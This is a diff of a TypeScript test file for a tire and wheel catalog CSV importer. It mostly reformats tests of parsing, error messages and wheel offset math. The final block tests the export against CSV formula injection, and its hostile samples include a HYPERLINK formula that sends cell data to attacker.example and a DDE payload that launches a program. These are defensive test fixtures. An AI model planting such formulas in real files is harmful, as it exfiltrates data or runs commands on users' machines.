@@ -15,7 +15,13 @@ describe("catalog CSV", () => {
     expect(r.items[0]).toMatchObject({ tire_rim_in: 17, tire_diameter_mm: 889, price_cents: 38900, qty_on_hand: 8 });
     // 4.5 in backspacing to the flange on a 9 in wheel: 4.0 in to the bead seat, offset (4.0 − 4.5) × 25.4 = −12.7 mm
     // (BS = W/2 + offset, flange allowance 0.5 in: lib/fitment README, common practice, no source).
-    expect(r.items[2]).toMatchObject({ wheel_offset_mm: -12.7, wheel_backspacing_in: 4.5, wheel_backspacing_reference: "flange", beadlock: true, bolt_pattern: "6x139.7" });
+    expect(r.items[2]).toMatchObject({
+      wheel_offset_mm: -12.7,
+      wheel_backspacing_in: 4.5,
+      wheel_backspacing_reference: "flange",
+      beadlock: true,
+      bolt_pattern: "6x139.7",
+    });
     expect(r.items[3]).toMatchObject({ service_type: "mount_balance", service_unit: "per_wheel", qty_on_hand: null });
   });
 
@@ -30,7 +36,16 @@ describe("catalog CSV", () => {
       HEAD,
       row({ kind: "tire", sku: "T1", description: "Good tire", price: "199.99", qty_on_hand: "4", tire_size: "LT285/70R17" }),
       row({ kind: "tire", sku: "T2", description: "Bad size", price: "150", qty_on_hand: "4", tire_size: "35 by 12" }),
-      row({ kind: "wheel", sku: "W1", description: "No pattern", price: "120", qty_on_hand: "2", wheel_diameter_in: "17", wheel_width_in: "9", wheel_offset_mm: "0" }),
+      row({
+        kind: "wheel",
+        sku: "W1",
+        description: "No pattern",
+        price: "120",
+        qty_on_hand: "2",
+        wheel_diameter_in: "17",
+        wheel_width_in: "9",
+        wheel_offset_mm: "0",
+      }),
       row({ kind: "gizmo", sku: "G1", description: "Unknown", price: "1" }),
       row({ kind: "service", sku: "S1", description: "Mount", price: "-3", service_type: "mount_balance" }),
       row({ kind: "tire", sku: "t1", description: "Same SKU in other case", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }),
@@ -64,8 +79,16 @@ describe("catalog CSV", () => {
     for (const nl of ["\n", "\r\n"]) {
       const r = parseCatalogCsv(lines.join(nl) + nl);
       expect(r.total).toBe(5);
-      expect(r.items.map((i) => [i.sku, i.row])).toEqual([["T1", 2], ["T4", 8]]);
-      expect(r.errors.map((e) => [e.row, e.column])).toEqual([[4, "tire_size"], [6, "price"], [6, "tire_size"], [9, "sku"]]);
+      expect(r.items.map((i) => [i.sku, i.row])).toEqual([
+        ["T1", 2],
+        ["T4", 8],
+      ]);
+      expect(r.errors.map((e) => [e.row, e.column])).toEqual([
+        [4, "tire_size"],
+        [6, "price"],
+        [6, "tire_size"],
+        [9, "sku"],
+      ]);
       expect(r.errors[3]!.message).toMatch(/also on row 2/);
       // Three rows are skipped; they carry four problems (row 6 counts once).
       expect(r.skippedRows).toBe(3);
@@ -85,9 +108,15 @@ describe("catalog CSV", () => {
   });
 
   it("says in its own words why a row could not be read, with the row number", () => {
-    const text = [HEAD, row({ kind: "tire", sku: "T1", description: "Good", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }), "tire,T2,Short row,10"].join("\n");
+    const text = [
+      HEAD,
+      row({ kind: "tire", sku: "T1", description: "Good", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }),
+      "tire,T2,Short row,10",
+    ].join("\n");
     const r = parseCatalogCsv(text);
-    expect(r.errors).toEqual([{ row: 3, column: "", message: "This row has 4 cells; the header row has 16. Check for a missing or extra comma." }]);
+    expect(r.errors).toEqual([
+      { row: 3, column: "", message: "This row has 4 cells; the header row has 16. Check for a missing or extra comma." },
+    ]);
     const unclosed = parseCatalogCsv([HEAD, 'tire,T3,"Unclosed quote,10,1,LT285/70R17,,,,,,,,,,'].join("\n"));
     expect(unclosed.errors[0]).toMatchObject({ row: 2, column: "" });
     expect(unclosed.errors[0]!.message).toMatch(/quote/);
@@ -95,7 +124,15 @@ describe("catalog CSV", () => {
   });
 
   it("words every wheel problem for the person who made the file, naming the column", () => {
-    const base = { kind: "wheel", sku: "W", description: "d", price: "1", qty_on_hand: "1", wheel_diameter_in: "17", bolt_pattern: "6x5.5" };
+    const base = {
+      kind: "wheel",
+      sku: "W",
+      description: "d",
+      price: "1",
+      qty_on_hand: "1",
+      wheel_diameter_in: "17",
+      bolt_pattern: "6x5.5",
+    };
     const cases: [Partial<Record<(typeof CSV_COLUMNS)[number], string>>, string][] = [
       [{ wheel_width_in: "", wheel_offset_mm: "0" }, "wheel_width_in"],
       [{ wheel_width_in: "nine", wheel_offset_mm: "0" }, "wheel_width_in"],
@@ -121,23 +158,51 @@ describe("catalog CSV", () => {
   });
 
   it("refuses bytes that are not UTF-8 text", () => {
-    expect(decodeCsvBytes(new Uint8Array([0x6b, 0x69, 0x6e, 0x64, 0xff, 0xfe, 0x0a]))).toEqual({ error: expect.stringMatching(/not UTF-8/) });
+    expect(decodeCsvBytes(new Uint8Array([0x6b, 0x69, 0x6e, 0x64, 0xff, 0xfe, 0x0a]))).toEqual({
+      error: expect.stringMatching(/not UTF-8/),
+    });
     expect(decodeCsvBytes(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]))).toEqual({ error: expect.stringMatching(/NUL bytes/) });
     expect(decodeCsvBytes(new TextEncoder().encode("\uFEFFkind,sku"))).toEqual({ text: "kind,sku" });
     expect(decodeCsvBytes(new Uint8Array())).toEqual({ error: "The file is empty." });
   });
 
   it("needs offset or backspacing on a wheel, never both, and the reference with backspacing", () => {
-    const base = { kind: "wheel", sku: "W", description: "d", price: "1", qty_on_hand: "1", wheel_diameter_in: "17", wheel_width_in: "9", bolt_pattern: "6x5.5" };
-    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_offset_mm: "0", wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({ column: "wheel_offset_mm" });
-    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({ column: "wheel_backspacing_reference" });
+    const base = {
+      kind: "wheel",
+      sku: "W",
+      description: "d",
+      price: "1",
+      qty_on_hand: "1",
+      wheel_diameter_in: "17",
+      wheel_width_in: "9",
+      bolt_pattern: "6x5.5",
+    };
+    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_offset_mm: "0", wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({
+      column: "wheel_offset_mm",
+    });
+    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({
+      column: "wheel_backspacing_reference",
+    });
     // 5 in to the bead seat on a 9 in wheel: offset = (5 − 4.5) × 25.4 = +12.7 mm (same formula as above).
-    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5", wheel_backspacing_reference: "bead-seat" })].join("\n")).items[0]!.wheel_offset_mm).toBeCloseTo(12.7, 9);
+    expect(
+      parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5", wheel_backspacing_reference: "bead-seat" })].join("\n")).items[0]!
+        .wheel_offset_mm,
+    ).toBeCloseTo(12.7, 9);
   });
 
   it("reads a file with the earlier header backspacing_from, and names that column in its problems", () => {
     const old = HEAD.replace("wheel_backspacing_reference", "backspacing_from");
-    const base = { kind: "wheel", sku: "W", description: "d", price: "1", qty_on_hand: "1", wheel_diameter_in: "17", wheel_width_in: "9", bolt_pattern: "6x5.5", wheel_backspacing_in: "5" };
+    const base = {
+      kind: "wheel",
+      sku: "W",
+      description: "d",
+      price: "1",
+      qty_on_hand: "1",
+      wheel_diameter_in: "17",
+      wheel_width_in: "9",
+      bolt_pattern: "6x5.5",
+      wheel_backspacing_in: "5",
+    };
     // Same cells, same places: only the header's name differs.
     const good = parseCatalogCsv([old, row({ ...base, wheel_backspacing_reference: "bead-seat" })].join("\n"));
     expect(good.fileErrors).toEqual([]);
@@ -147,7 +212,9 @@ describe("catalog CSV", () => {
     const bad = parseCatalogCsv([old, row({ ...base, wheel_backspacing_reference: "rim" })].join("\n"));
     expect(bad.errors).toEqual([expect.objectContaining({ column: "backspacing_from", message: expect.stringMatching(/measured to/) })]);
     // Both names at once is one column named twice.
-    expect(parseCatalogCsv(`${HEAD},backspacing_from\n`).fileErrors.join(" ")).toMatch(/Column named twice: wheel_backspacing_reference\. backspacing_from is the earlier name/);
+    expect(parseCatalogCsv(`${HEAD},backspacing_from\n`).fileErrors.join(" ")).toMatch(
+      /Column named twice: wheel_backspacing_reference\. backspacing_from is the earlier name/,
+    );
     // Export writes the one name.
     expect(catalogToCsv(good.items.map(({ row: _r, ...i }) => i)).split("\r\n")[0]).toBe(HEAD);
   });
@@ -156,7 +223,7 @@ describe("catalog CSV", () => {
 describe("catalog CSV export against formula injection (OWASP CSV Injection guidance)", () => {
   const base = parseCatalogCsv(CSV_TEMPLATE).items.map(({ row: _r, ...i }) => i);
   const hostile = [
-    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,2)",
